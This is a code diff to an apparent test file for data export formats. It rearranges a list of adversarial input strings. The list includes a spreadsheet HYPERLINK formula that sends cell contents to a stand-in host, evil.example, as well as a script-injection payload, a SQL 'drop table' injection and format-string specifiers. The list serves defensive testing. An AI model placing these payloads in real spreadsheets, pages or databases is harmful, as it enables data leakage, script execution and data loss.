@@ -17,12 +17,9 @@ const formats = all.dumps;
 
 /** Text that somewhere is more than text. */
 const attacks = [
-  ...'=HYPERLINK("https://evil.example/?"&A1,"Click")|+1|-2+3|@SUM(A1)|\tcmd|"quoted", ""twice""|two\r\nlines\nand more'.split(
-    '|',
-  ),
-  ..."</script><script>alert(1)</script>|'; drop table courses; --| spaces |\\N|NULL|null|1e400|\u2028\u2029|\u{1F600}é中|{{dataBlock}}|%s %n|a;b".split(
-    '|',
-  ),
+  ...'=HYPERLINK("https://evil.example/?"&A1,"Click")|+1|-2+3|@SUM(A1)|\tcmd|"quoted", ""twice""'.split('|'),
+  ...'two\r\nlines\nand more|</script><script>alert(1)</script>| spaces |\\N|NULL|null|1e400|\u2028\u2029'.split('|'),
+  ..."\u{1F600}é中|{{dataBlock}}|%s %n|a;b|'; drop table courses; --".split('|'),
 ];
 
 /** Ids that are not in order, times with a fraction, several values, and attacks in every field. */
